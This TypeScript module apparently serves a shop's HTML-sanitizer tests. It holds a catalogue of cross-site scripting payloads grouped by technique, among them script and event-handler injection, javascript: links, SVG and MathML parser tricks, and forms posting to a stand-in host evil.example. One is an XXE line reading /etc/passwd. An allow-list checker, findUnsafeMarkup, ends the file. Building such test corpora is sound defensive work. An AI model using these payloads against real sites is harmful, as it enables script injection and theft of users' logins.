import { readFileSync } from 'node:fs'
import { parseDocument } from 'htmlparser2'

/** Attack markup by technique, written for this shop. Each entry is a complete attack. */
export const attacks: Record<string, string[]> = {
  'plain scripts': [
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<ScRiPt src=https://evil.example/a.js></sCrIpT>',
    '<script src="//evil.example/a.js"></script>',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<script type="module">import("https://evil.example/a.js")</script>',
    '<script>alert(1)',
    '<script src=data:text/javascript,alert(1)></script>',
    '<p>Before<script>alert(1)</script>after</p>',
    '<<script>alert(1)//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '</script><script>alert(1)</script>',
    '<script type="text/plain">x</script><script>alert(1)</script>',
    '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
    '\u0000<script>alert(1)</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<script charset="utf-7">+ADw-script+AD4-alert(1)</script>',
  ],
  'event handlers': [
    '<p onclick="alert(1)">press</p>',
    '<p ONCLICK=alert(1)>press</p>',
    '<img src="/images/logo.svg" onerror="alert(1)">',
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x\nonerror\n=\nalert(1)>',
    '<img src=x onerror=alert`1`>',
    '<img src="x" on\u0000error="alert(1)">',
    '<img src=x onload=alert(1)>',
    '<a href="/products" onmouseover="alert(1)">x</a>',
    '<a href="/products" onfocus="alert(1)" autofocus tabindex="1">x</a>',
    '<body onload=alert(1)>',
    '<table><tr><td onpointerenter=alert(1)>x</td></tr></table>',
    '<h2 onanimationstart=alert(1)>x</h2>',
    '<p ontoggle=alert(1) popover>x</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<div onwheel=alert(1)>x</div>',
    '<blockquote onbeforeinput=alert(1) contenteditable>x</blockquote>',
    '<ol onscrollend=alert(1)><li>x</li></ol>',
    '<p oncontentvisibilityautostatechange=alert(1)>x</p>',
    '<a onclick\u2028="alert(1)" href="/">x</a>',
    '<img src="/x.png" alt="` onerror=alert(1)">',
    '<img alt="x" title=\'"onerror=alert(1) "\' src=x>',
  ],
  'links that run': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&Tab;:alert(1)">x</a>',
    '<a href="javascript&NewLine;:alert(1)">x</a>',
    '<a href="javascript://evil.example/%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://shop.example/1">x</a>',
    '<a href="filesystem:https://shop.example/1">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="jar:javascript:alert(1)!/">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="mhtml:https://evil.example">x</a>',
    '<a href="#" xlink:href="javascript:alert(1)">x</a>',
    '<a href="/x" ping="https://evil.example/p">x</a>',
    '<a href="/x" target="_blank" rel="opener">x</a>',
    '<a href="/x" download="evil.exe">x</a>',
    '<a href="//evil.example/sign-in">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="https:evil.example" onclick=alert(1)>x</a>',
    '<a href="javascript:alert(1)" href="/products">x</a>',
    '<area href="javascript:alert(1)" shape="default">',
  ],
  'tricks with style': [
    '<style>*{background:url(https://evil.example/a)}</style>',
    '<style>@import "https://evil.example/a.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0;z-index:99999">Sign in again</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(#default#time2)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/a.xml#x)">x</p>',
    '<p style=\'font-family:"x\\";}*{color:red;\'>x</p>',
    '<p class="dialog no-print fixed inset-0">x</p>',
    '<div id="search" name="cookie">x</div>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="preload" as="script" href="https://evil.example/a.js">',
    '<style><img src="</style><img src=x onerror=alert(1)>">',
    '<p hidden style="animation:x" onanimationend=alert(1)>x</p>',
    '<input style="background:url(https://evil.example)" value="x">',
    '<p data-command="x" popover="auto" anchor="search">x</p>',
  ],
  'drawings and formulas': [
    '<svg onload=alert(1)></svg>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    '<svg><style>@import "https://evil.example";</style></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mi><svg><mi><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  ],
  'other pages inside ours': [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="https://evil.example/a.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="https://evil.example/a.swf">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<applet code="Evil.class"></applet>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<portal src="https://evil.example"></portal>',
    '<fencedframe></fencedframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<video src=x onerror=alert(1) autoplay></video>',
    '<video><source onerror=alert(1)></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a.png 1x" src="/images/logo.svg">',
    '<picture><source srcset="https://evil.example/a.png"><img src=//evil.example/b.png></picture>',
    '<img src="/images/../../api/user/logout">',
    '<img src="/images/logo.svg" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  ],
  'forms that take what is typed': [
    '<form action="https://evil.example"><input name="password"></form>',
    '<form><button formaction="javascript:alert(1)">Sign in</button></form>',
    '<button form="checkout" formaction="https://evil.example">Pay</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<input autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<label for="password">x</label><input id="password" oninput=alert(1)>',
    '<button popovertarget="main-menu" commandfor="x" command="show-modal">x</button>',
    '<dialog open><form action="https://evil.example"><input></form></dialog>',
  ],
  'markup that is not what it seems': [
    '<p title="--><script>alert(1)</script>">x</p>',
    '<!--><script>alert(1)</script>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    '<x-y is="evil-element" onclick=alert(1)>x</x-y>',
    '<table><caption><script>alert(1)</script></caption></table>',
    '<table><td><svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<a href="/x"><table><a href="javascript:alert(1)">x</table>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<p lang="en&quot; onclick=&quot;alert(1)">x</p>',
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    '<a title="x\' onclick=\'alert(1)" href="/x">y</a>',
    '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="/images/logo.svg">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<b <script>alert(1)</script>0',
    '<img """><script>alert(1)</script>">',
    '<p/onclick=alert(1)//',
    '<p\x0conclick=alert(1)>x</p>',
    '<p\x0bonclick=alert(1)>x</p>',
    '＜script＞alert(1)＜/script＞<script>alert(1)</script>',
    '<svg\u00a0onload=alert(1)>',
  ],
  'out of a code block': [
    '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
    '<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>',
    '<pre class="ql-syntax">&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;</pre>',
    '<pre>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</pre>',
    '<pre><code>&lt;pre&gt;&lt;code&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/code&gt;&lt;/pre&gt;</code></pre>',
    '```html\n<script>alert(1)</script>\n```',
    '```\n<img src=x onerror=alert(1)>\n```',
    '<pre><script>alert(1)</script></pre>',
    '<pre onclick=alert(1)>x</pre>',
    '<pre><code onclick="alert(1)">x</code></pre>',
    '<pre>&lt;p onclick=alert(1)&gt;x</pre><script>alert(1)</script>',
    '<p>```html<br><script>alert(1)</script><br>```</p>',
  ],
}

type PublishedList = { name: string; source: string; licence: string; tries: string[] }

/** Published attacks on sanitizers: the list of bluemonday, which has OWASP's cheat sheet, and naughty strings. */
export const publishedAttacks: PublishedList[] = JSON.parse(
  readFileSync(new URL('../../../../../tests/data/published-attacks.json', import.meta.url), 'utf8'),
).lists

/** All of them, ours and theirs. */
export const everyAttack = [
  ...Object.values(attacks).flat(),
  ...publishedAttacks.flatMap(({ tries }) => tries),
]

type Node = { type: string; name?: string; attribs?: Record<string, string>; children?: Node[] }

const elements = new Set(
  (
    'p h2 h3 h4 ul ol li dl dt dd blockquote hr br div a strong b em i u s sub sup small code kbd abbr q cite ' +
    'figure figcaption img table caption thead tbody tfoot tr th td'
  ).split(' '),
)
const attributes = new Set(
  'lang href title hreflang rel src alt width height loading decoding start colspan rowspan scope'.split(' '),
)

/** What in the markup could do anything, as an HTML parser reads it; our own list, not the cleaner's. */
export function findUnsafeMarkup(html: string) {
  const harm: string[] = []
  const look = (nodes: Node[]) => {
    for (const { type, name = '', attribs = {}, children = [] } of nodes) {
      if (type !== 'text' && type !== 'tag') harm.push(type)
      if (type === 'tag' && !elements.has(name)) harm.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attribs)) {
        if (!attributes.has(attribute)) harm.push(`${name} ${attribute}`)
        if (attribute === 'href' && !/^(?:\/(?![/\\])|#|https?:\/\/|mailto:|tel:)/i.test(value))
          harm.push(value)
        if (attribute === 'src' && !/^\/(?![/\\])/.test(value)) harm.push(value)
        if (/[\u0000-\u001f]/.test(value)) harm.push(JSON.stringify(value))
      }
      look(children)
    }
  }
  look(parseDocument(html).children as unknown as Node[])
  return harm
}
